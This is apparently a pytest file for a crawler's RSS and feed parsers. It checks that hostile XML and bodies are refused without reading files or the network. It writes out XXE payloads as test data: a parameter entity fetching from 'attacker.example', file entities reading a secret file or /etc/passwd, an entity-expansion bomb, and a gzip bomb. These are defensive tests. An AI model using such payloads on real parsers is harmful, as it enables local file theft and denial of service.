"""Hostile documents: entity bombs, external entities, decompression bombs, bodies naming files.

Each must be refused with a clear ParseError (or read safely) within a second, without reading
local files or the network.
"""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest

from crawler.parsers import feed, rss
from crawler.parsers.base import ParseError

CORPUS = Path(__file__).resolve().parents[2] / "corpus"
SECURITY_XML = sorted((CORPUS / "security").glob("*.xml"))
REFUSED = "feed: refusing XML with entity declarations"


def test_the_security_corpus_is_there():
    assert {path.name for path in SECURITY_XML} >= {
        "defusedxml__xmlbomb.xml", "defusedxml__quadratic.xml", "defusedxml__cyclic.xml",
        "defusedxml__external.xml", "feedvalidator__system_entity.xml"}


@pytest.mark.parametrize("path", SECURITY_XML, ids=[path.name for path in SECURITY_XML])
def test_rss_parser_refuses_entity_documents(path):
    with pytest.raises(ParseError) as refused:
        rss.parse("https://partner.example/feed.xml", path.read_bytes())
    assert str(refused.value) == REFUSED


@pytest.mark.parametrize("path", SECURITY_XML, ids=[path.name for path in SECURITY_XML])
def test_feed_entry_point_refuses_them_too(path):
    with pytest.raises(ParseError, match=r"^feed: (refusing XML with entity declarations|not a feed)"):
        feed.parse("https://partner.example/feed.xml", path.read_bytes())


def test_system_entity_in_an_rss_feed_is_never_resolved():
    body = (CORPUS / "security/feedvalidator__system_entity.xml").read_bytes()
    with pytest.raises(ParseError, match=f"^{REFUSED}$"):
        feed.parse("https://partner.example/feed.xml", body)


def test_file_entity_pointing_at_a_real_file_is_refused(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    body = (f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY s SYSTEM "{secret.as_uri()}">]>\n'
            '<rss version="2.0"><channel><item><title>&s;</title></item></channel></rss>').encode()
    with pytest.raises(ParseError, match=f"^{REFUSED}$"):
        feed.parse("", body)


def test_parameter_entity_is_refused():
    body = (b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>\n'
            b'<rss version="2.0"><channel><item><title>x</title></item></channel></rss>')
    with pytest.raises(ParseError, match=f"^{REFUSED}$"):
        rss.parse("", body)


def test_a_comment_cannot_hide_an_entity_declaration():
    # Naive "prolog ends at the first '<' + letter" checks stop inside this comment.
    body = (b'<?xml version="1.0"?>\n<!-- <a> -->\n<!DOCTYPE rss [<!ENTITY a "' + b"A" * 10000 + b'">]>\n'
            b'<rss version="2.0"><channel><item><title>' + b"&a;" * 1000 + b"</title></item></channel></rss>")
    with pytest.raises(ParseError, match=f"^{REFUSED}$"):
        rss.parse("", body)


def test_an_article_about_entities_is_not_refused():
    body = (b'<?xml version="1.0"?>\n<rss version="2.0"><channel><item><title>XXE explained</title>'
            b'<description><![CDATA[Never accept <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>]]>'
            b"</description></item></channel></rss>")
    result = rss.parse("", body)
    assert result.items[0].title == "XXE explained"
    assert "!ENTITY e SYSTEM" in result.items[0].summary


def test_external_dtd_reference_is_not_fetched_or_read(tmp_path):
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY leak "LEAKED">')
    body = (f'<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "{dtd.as_uri()}">\n'
            '<rss version="2.0"><channel><item><title>ok</title><description>&leak;</description></item>'
            '</channel></rss>').encode()
    result = rss.parse("", body)
    assert result.items[0].title == "ok"
    assert "LEAKED" not in (result.items[0].summary or "")


@pytest.mark.parametrize("body", [b"/etc/passwd", b"/etc/hostname", str(Path(__file__)).encode()])
def test_a_body_that_names_a_file_is_not_opened(body):
    # feedparser.parse(bytes) opens the bytes as a path when such a file exists.
    with pytest.raises(ParseError) as refused:
        rss.parse("", body)
    assert str(refused.value).startswith("rss: unable to parse feed: no RSS or Atom root element")
    with pytest.raises(ParseError, match="^feed: not a feed"):
        feed.parse("", body)


def test_a_body_that_is_a_url_is_not_fetched():
    with pytest.raises(ParseError, match="^rss: unable to parse feed"):
        rss.parse("", b"http://127.0.0.1:9/feed.xml")


def test_gzip_bomb_corpus_file_is_refused_by_the_cap():
    body = (CORPUS / "security/scrapy__bomb-gzip.bin").read_bytes()
    with pytest.raises(ParseError, match=r"^feed: decompressed body exceeds 10485760 bytes$"):
        rss.parse("", body)


def test_gzip_bomb_that_looks_like_a_feed_is_refused_by_the_cap():
    body = gzip.compress(b'<?xml version="1.0"?><rss version="2.0"><channel>' + b" " * (11 * 1024 * 1024))
    assert len(body) < 100_000
    with pytest.raises(ParseError, match=r"^feed: decompressed body exceeds 10485760 bytes$"):
        feed.parse("", body)
